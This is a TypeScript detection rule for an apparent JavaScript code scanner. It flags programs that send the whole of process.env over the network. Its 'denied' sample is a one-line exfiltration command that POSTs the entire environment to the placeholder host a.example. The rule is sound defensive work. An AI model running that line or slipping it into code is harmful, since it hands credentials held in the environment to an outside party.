import type { JavaScriptRule } from '../../rule.ts';

export const environmentLeak: JavaScriptRule = {
  id: 'js-environment-leak',
  severity: 'high',
  title: 'It sends the environment away.',
  cause: 'Credentials are passed in the environment, so that is what a thief takes first.',
  explanation: '`process.env` as a whole in a program that uses the network. Single variables are fine.',
  hint: 'Print what you compute; leave the environment alone.',
  denied: 'fetch("http://a.example", { method: "POST", body: JSON.stringify(process.env) });\n',
  allowed: 'console.log(process.env.HOME);\n',
  *find({ byType, usesNetwork }) {
    if (!usesNetwork) return;
    for (const node of byType.get('member_expression') ?? []) {
      const isWhole =
        node.parent?.type !== 'member_expression' &&
        node.parent?.type !== 'subscript_expression' &&
        node.parent?.type !== 'variable_declarator';
      if (node.reference === 'process.env' && isWhole) yield { node };
    }
  },
};
